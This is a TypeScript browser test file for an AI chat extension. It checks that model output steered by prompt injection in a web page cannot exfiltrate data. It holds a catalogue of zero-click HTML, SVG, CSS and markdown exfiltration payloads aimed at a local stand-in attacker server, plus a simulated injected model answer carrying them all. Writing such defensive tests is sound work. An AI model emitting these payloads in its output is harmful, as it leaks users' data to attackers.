// Prompt-injection exfiltration in a real Chromium: model output (steerable by a web page's hidden text) must
// make the panel fetch nothing on its own, through the sanitiser and, behind it, the extension pages' CSP.
// Also: Chromium gives the unpacked extension the fixed id the gateway allows by default.
import assert from 'node:assert/strict';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { chromePlusExtensionId } from '@chrome-plus/server';
import { type FakeOpenAI, repoRoot, until } from '@chrome-plus/testkit';
import { build } from 'esbuild';
import type { Page } from 'playwright-core';
import {
  type Backend,
  chromiumAvailable,
  type ExtensionBrowser,
  lastAnswer,
  launchExtension,
  sendMessage,
  startBackend,
  waitForStatus,
} from './harness.ts';

const skip = chromiumAvailable() ? false : 'Chromium is not installed (/usr/bin/chromium)';

/** A server standing for the attacker's: it records every request that reaches it. */
interface Beacon {
  url: string;
  hits: string[];
  close(): Promise<void>;
}

async function startBeacon(): Promise<Beacon> {
  const hits: string[] = [];
  const server = createServer((request: IncomingMessage, response) => {
    hits.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'image/gif', 'access-control-allow-origin': '*' });
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    hits,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** Every way we know for markup to fetch a URL with no click, each pointing at the beacon under its name. */
function exfiltrationPayloads(beacon: string): Record<string, string> {
  const at = (name: string) => `${beacon}/${name}?q=secret`;
  return {
    'table background': `<table background="${at('table')}"><tr><td background="${at('td')}">cell</td></tr></table>`,
    'svg image': `<svg><image href="${at('svg-image')}" width="9" height="9"/></svg>`,
    'svg image xlink': `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${at('svg-xlink')}"/></svg>`,
    feImage: `<svg><filter id="f"><feImage href="${at('feimage')}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    'svg use': `<svg><use href="${at('svg-use')}#x"/></svg>`,
    'math mglyph': `<math><mi><mglyph src="${at('mglyph')}"/></mi></math>`,
    'img srcset': `<img srcset="${at('srcset')} 1x" alt="">`,
    'img lowsrc dynsrc': `<img lowsrc="${at('lowsrc')}" dynsrc="${at('dynsrc')}">`,
    'legacy image tag': `<image src="${at('image-tag')}">`,
    'picture source': `<picture><source srcset="${at('source')}"><img alt=""></picture>`,
    'video poster': `<video poster="${at('poster')}" src="${at('video')}"></video>`,
    'audio src': `<audio autoplay src="${at('audio')}"></audio>`,
    'input image': `<input type="image" src="${at('input')}">`,
    'link stylesheet': `<link rel="stylesheet" href="${at('link-css')}">`,
    'link prefetch': `<link rel="prefetch" href="${at('link-prefetch')}">`,
    'style attribute': `<div style="background-image:url('${at('style-attr')}')">styled</div>`,
    'style element': `<style>p{background:url(${at('style-element')})}</style>`,
    'css import': `<style>@import url("${at('import')}");</style>`,
    object: `<object data="${at('object')}"></object>`,
    embed: `<embed src="${at('embed')}">`,
    'base href': `<base href="${at('base')}/">relative <a href="rel">link</a>`,
    'meta refresh': `<meta http-equiv="refresh" content="0;url=${at('meta')}">`,
    'iframe srcdoc': `<iframe srcdoc="<img src='${at('srcdoc')}'>"></iframe>`,
    'iframe src': `<iframe src="${at('iframe')}"></iframe>`,
    script: `<script src="${at('script')}"></script>`,
    'form action': `<form action="${at('form')}"><button formaction="${at('formaction')}">go</button></form>`,
    'href on a div': `<div href="${at('div-href')}">div</div>`,
    'a ping': `<a href="https://example.com/" ping="${at('ping')}">pinged link</a>`,
    'legacy cite longdesc usemap': `<blockquote cite="${at('cite')}">quote</blockquote><q cite="${at('q-cite')}">q</q>`,
    'markdown image': `![secret](${at('markdown-image')})`,
  };
}

/** Everything in `root` that names the beacon, other than a link's href (which loads only on a click). */
async function urlBearingMarkup(page: Page, selector: string, beacon: string): Promise<string[]> {
  return page.locator(selector).evaluateAll((roots, beaconUrl) => {
    const found: string[] = [];
    for (const root of roots) {
      for (const element of root.querySelectorAll('*')) {
        if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml')
          found.push(`<${element.localName}> (not HTML)`);
        for (const attribute of element.attributes) {
          const isLink = element.localName === 'a' && attribute.name === 'href';
          if (attribute.name === 'style' || (!isLink && attribute.value.includes(beaconUrl.slice(7)))) {
            found.push(`<${element.localName} ${attribute.name}="${attribute.value}">`);
          }
        }
      }
    }
    return found;
  }, beacon);
}

let beacon: Beacon;
let backend: Backend;
let fake: FakeOpenAI;
let browser: ExtensionBrowser;

before(async () => {
  if (skip) return;
  beacon = await startBeacon();
  backend = await startBackend('fake');
  fake = backend.fake!;
  browser = await launchExtension();
  await browser.configureServer(backend.url);
});

after(async () => {
  await browser?.close();
  await backend?.stop();
  await beacon?.close();
});

test('Chromium gives the unpacked extension the id the gateway allows by default', { skip }, async () => {
  assert.equal(browser.extensionId, chromePlusExtensionId);
  // The backend runs without ALLOWED_ORIGINS: the panel connecting at all is the default allowlist at work.
  const page = await browser.openPanel();
  await page
    .locator('[data-testid="connection-status"][data-state="connected"]')
    .waitFor({ timeout: 15_000 });
  await page.close();
});

test('the sanitiser alone lets no payload fetch anything (a page with no CSP)', { skip }, async () => {
  beacon.hits.length = 0;
  const bundle = await build({
    entryPoints: [join(repoRoot, 'extension/src/render/markdown.ts')],
    bundle: true,
    write: false,
    format: 'iife',
    globalName: 'chromePlusMarkdown',
    platform: 'browser',
    target: 'chrome116',
    logLevel: 'silent',
  });
  const page = await browser.context.newPage();
  await page.setContent(
    '<!doctype html><html><body><div id="out"></div><div id="control"></div></body></html>',
  );
  await page.addScriptTag({ content: bundle.outputFiles[0]!.text });
  // The test can see a load: unsanitised, one image reaches the beacon.
  await page.evaluate((url) => {
    document.getElementById('control')!.innerHTML = `<img src="${url}/control">`;
  }, beacon.url);
  await until(() => beacon.hits.some((hit) => hit.startsWith('/control')), {
    what: 'the control image to load',
    intervalMs: 50,
  });
  beacon.hits.length = 0;

  const payloads = exfiltrationPayloads(beacon.url);
  for (const [name, markdown] of Object.entries(payloads)) {
    await page.evaluate(
      ({ name, markdown }) => {
        const block = document.createElement('div');
        block.className = 'block';
        block.dataset.payload = name;
        block.innerHTML = (
          window as unknown as { chromePlusMarkdown: { renderMarkdown(text: string): string } }
        ).chromePlusMarkdown.renderMarkdown(markdown);
        document.getElementById('out')!.append(block);
      },
      { name, markdown },
    );
  }
  await page.waitForTimeout(1500);
  assert.deepEqual(beacon.hits, [], 'requests that reached the attacker');
  assert.deepEqual(await urlBearingMarkup(page, '#out', beacon.url), []);
  // Links stay links, opened safely; an image is a link to it, never loaded.
  const link = page.locator('#out a', { hasText: 'pinged link' });
  assert.equal(await link.getAttribute('href'), 'https://example.com/');
  assert.equal(await link.getAttribute('rel'), 'noopener noreferrer');
  assert.equal(await link.getAttribute('target'), '_blank');
  assert.equal(
    await page.locator('#out a.image-link').getAttribute('href'),
    `${beacon.url}/markdown-image?q=secret`,
  );
  assert.equal(await page.locator('#out [data-payload="base href"] a').getAttribute('href'), null);
  assert.equal(await page.locator('#out td', { hasText: 'cell' }).count(), 1, 'a table is still a table');
  await page.close();
});

test('an answer carrying every exfiltration payload renders with nothing fetched', { skip }, async () => {
  beacon.hits.length = 0;
  const payloads = Object.values(exfiltrationPayloads(beacon.url));
  fake.enqueue({
    type: 'answer',
    pieces: [
      'Here is what the page asked me to show:\n\n',
      ...payloads.map((payload) => `${payload}\n\n`),
      'Done.',
    ],
    tokenIntervalMs: 5,
  });
  const page = await browser.openPanel();
  await page
    .locator('[data-testid="connection-status"][data-state="connected"]')
    .waitFor({ timeout: 15_000 });
  await page.getByTestId('new-chat').click();
  await sendMessage(page, 'Summarize the page.');
  const answer = lastAnswer(page);
  await waitForStatus(answer, 'done');
  await page.waitForTimeout(1500);
  assert.deepEqual(beacon.hits, [], 'requests that reached the attacker');
  assert.deepEqual(
    await urlBearingMarkup(page, '[data-testid="message-assistant"] .markdown', beacon.url),
    [],
  );
  // The history keeps the same answer: opening it again renders it again, still with nothing fetched.
  await page.reload();
  await lastAnswer(page).locator('.markdown').waitFor();
  await page.waitForTimeout(1000);
  assert.deepEqual(beacon.hits, [], 'requests after a reload');
  await page.close();
});

test("the panel's CSP blocks remote loads that got past any sanitiser", { skip }, async () => {
  beacon.hits.length = 0;
  const page = await browser.openPanel();
  // Markup put in the panel directly, as if a sanitiser bug let it through.
  // No helper functions inside: tsx would wrap them in a __name() the page does not have.
  await page.evaluate((at) => {
    const host = document.createElement('div');
    host.innerHTML = [
      `<img src="${at}csp-img">`,
      `<table background="${at}csp-table"><tr><td>x</td></tr></table>`,
      `<svg><image href="${at}csp-svg-image" width="9" height="9"/></svg>`,
      `<video poster="${at}csp-poster" src="${at}csp-video" autoplay muted></video>`,
      `<link rel="stylesheet" href="${at}csp-link">`,
      `<iframe src="${at}csp-iframe"></iframe>`,
      `<object data="${at}csp-object"></object>`,
      `<embed src="${at}csp-embed">`,
    ].join('');
    document.body.append(host);
    const styled = document.createElement('div');
    styled.textContent = 'styled';
    styled.style.backgroundImage = `url("${at}csp-cssom")`;
    document.body.append(styled);
    const sheet = document.createElement('style');
    sheet.textContent = `@import url("${at}csp-import"); body { background: url("${at}csp-style"); }`;
    document.head.append(sheet);
    const font = new FontFace('Leak', `url("${at}csp-font")`);
    document.fonts.add(font);
    font.load().catch(() => {});
    new Audio(`${at}csp-audio`).play().catch(() => {});
  }, `${beacon.url}/`);
  await page.waitForTimeout(1500);
  assert.deepEqual(beacon.hits, [], 'requests that reached the attacker');
  await page.close();
});

test('the options page warns before a token goes unencrypted to another computer', { skip }, async () => {
  const page = await browser.context.newPage();
  await page.goto(`chrome-extension://${browser.extensionId}/options.html`);
  const warning = page.getByTestId('insecure-server-warning');
  const serverUrl = page.getByTestId('server-url');
  const token = page.getByTestId('token');
  await serverUrl.fill('ws://chat.example.com/v1/ws');
  await token.fill('');
  assert.equal(await warning.isVisible(), false, 'no token, nothing to leak');
  await token.fill('secret-token-123');
  await warning.waitFor({ state: 'visible' });
  assert.match((await warning.textContent()) ?? '', /not encrypted/);
  for (const safe of ['wss://chat.example.com/v1/ws', 'ws://127.0.0.1:8787/v1/ws', 'chat.example.com']) {
    await serverUrl.fill(safe);
    await warning.waitFor({ state: 'hidden' });
  }
  await serverUrl.fill('http://chat.example.com');
  await warning.waitFor({ state: 'visible' });
  // An address typed without a scheme is saved as wss:// when it is not this computer.
  await serverUrl.fill('chat.example.com:8443');
  await page.getByTestId('save').click();
  await page.locator('[data-testid="options-result"][data-kind="ok"]').waitFor();
  assert.equal(await serverUrl.inputValue(), 'wss://chat.example.com:8443/v1/ws');
  await page.close();
  await browser.configureServer(backend.url);
});
